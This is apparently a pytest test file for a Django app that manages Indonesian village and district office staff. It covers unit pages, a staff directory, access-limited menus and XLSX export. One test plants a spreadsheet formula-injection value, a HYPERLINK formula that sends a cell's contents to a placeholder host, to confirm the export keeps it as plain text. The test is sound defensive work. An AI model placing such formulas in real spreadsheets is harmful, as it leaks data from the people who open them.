from __future__ import annotations

import io

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from pamong.accounts.models import User
from pamong.organization.models import Position, Unit
from pamong.organization.services import units_scaffold
from pamong.regions.services import regions_import
from pamong.testing import Padang, make_employee, make_position

pytestmark = pytest.mark.django_db


def test_unit_page_draws_the_chain_and_marks_vacant_positions(
    client: Client, padang: Padang, camat_padang_selatan: User
) -> None:
    make_position(
        padang.kantor_lurah_bp, "Sekretaris Lurah", Position.Kind.SEKRETARIS, reports_to=padang.staf_bp_pos.reports_to
    )
    client.force_login(camat_padang_selatan)
    html = client.get(reverse("organization:unit", args=[padang.kantor_lurah_bp.pk])).content.decode()
    assert "Lurah" in html and "Mulyadi" in html
    assert "Sekretaris Lurah" in html and "Kosong (lowong)" in html
    assert "melapor ke Camat, Kantor Camat Padang Selatan" in html
    assert "kode surat Kel.BP" in html


def directory_queries(client: Client) -> int:
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(reverse("organization:employees"))
    assert response.status_code == 200
    return len(ctx.captured_queries)


def test_directory_keeps_a_constant_number_of_queries(client: Client, padang: Padang, pimpinan_padang: User) -> None:
    client.force_login(pimpinan_padang)
    directory_queries(client)  # warm the per-process caches (deployment facts)
    few = directory_queries(client)
    for i in range(40):
        position = make_position(padang.kantor_lurah_bt, f"Staf {i}")
        make_employee(padang.kantor_lurah_bt, f"Pegawai {i}", position)
    directory_queries(client)  # staff changed: the signed-in user is read again once
    assert directory_queries(client) == few


def test_directory_filters_and_htmx_partial(client: Client, padang: Padang, pimpinan_padang: User) -> None:
    client.force_login(pimpinan_padang)
    html = client.get(reverse("organization:employees"), {"kecamatan": "13.71.03"}).content.decode()
    assert "Hendri" in html and "Yusnimar" not in html
    partial = client.get(reverse("organization:employees"), {"q": "yusni"}, HTTP_HX_REQUEST="true").content.decode()
    assert "Yusnimar" in partial and "Mulyadi" not in partial
    assert '<nav class="navbar' not in partial
    nip = padang.staf_bt.nip or ""
    nip_search = client.get(reverse("organization:employees"), {"q": nip[:8]}).content.decode()
    assert "Hendri" in nip_search


def test_xlsx_export_holds_only_what_the_user_sees(client: Client, padang: Padang, lurah_belakang_pondok: User) -> None:
    client.force_login(lurah_belakang_pondok)
    response = client.get(reverse("organization:employees_xlsx"))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(min_row=4, values_only=True))
    assert sorted(r[1] for r in rows) == ["Mulyadi", "Yusnimar"]
    assert rows[0][0] == padang.lurah_bp.nip  # NIP kept as text, digit for digit


def test_scaffold_builds_standard_offices_once_with_lurah_reporting_to_camat(db: None) -> None:
    regions_import(under="13.71")
    from pamong.regions.models import Region

    kota = Region.objects.get(code="13.71")
    first = units_scaffold(kabkota=kota)
    assert first.units_created == 1 + 11 + 104
    again = units_scaffold(kabkota=kota)
    assert (again.units_created, again.positions_created) == (0, 0)
    lurah = Position.objects.get(unit__code="13.71.03.1001", title="Lurah")
    assert lurah.reports_to is not None
    assert lurah.reports_to.title == "Camat"
    assert lurah.reports_to.unit.code == "13.71.03"
    kasi = Position.objects.filter(unit__code="13.71.03", kind=Position.Kind.KEPALA_SEKSI).first()
    assert kasi is not None and kasi.reports_to is not None
    assert kasi.reports_to.title == "Sekretaris Camat"
    assert Unit.objects.get(code="13.71").kind == Unit.Kind.BAGIAN_TAPEM


def test_text_that_looks_like_a_formula_stays_text_in_exports(
    client: Client, padang: Padang, pimpinan_padang: User
) -> None:
    make_employee(padang.kantor_lurah_bt, '=HYPERLINK("http://contoh.invalid/?"&A5,"klik")')
    client.force_login(pimpinan_padang)
    sheet = load_workbook(io.BytesIO(client.get(reverse("organization:employees_xlsx")).content)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=4) if str(row[1].value).startswith("=")]
    assert len(cells) == 1
    assert cells[0].data_type == "s"


def test_menus_and_region_pages_link_only_pages_the_user_may_open(
    padang: Padang, petugas_belakang_pondok: User, lurah_belakang_pondok: User
) -> None:

    staff, head = Client(), Client()
    staff.force_login(petugas_belakang_pondok)
    head.force_login(lurah_belakang_pondok)
    for url in (reverse("skp:recap"), reverse("attendance:day")):
        assert staff.get(url).status_code == 404
        assert head.get(url).status_code == 200
    for url in (reverse("organization:hub"), reverse("attendance:mine")):
        page = staff.get(url).content.decode()
        assert reverse("skp:recap") not in page and reverse("attendance:day") not in page
    assert reverse("skp:recap") in head.get(reverse("organization:hub")).content.decode()
    assert reverse("attendance:day") in head.get(reverse("attendance:mine")).content.decode()
    # The region browser links the office pages the lurah may open, and only names the others.
    kecamatan = head.get(reverse("portal:browse", args=[padang.padang_selatan.code])).content.decode()
    assert (
        reverse("organization:unit", args=[padang.kantor_camat_ps.pk]) not in kecamatan and "Kantor Camat" in kecamatan
    )
    own = head.get(reverse("portal:browse", args=[padang.belakang_pondok.code])).content.decode()
    assert reverse("organization:unit", args=[padang.kantor_lurah_bp.pk]) in own
    assert head.get(reverse("organization:unit", args=[padang.kantor_lurah_bp.pk])).status_code == 200
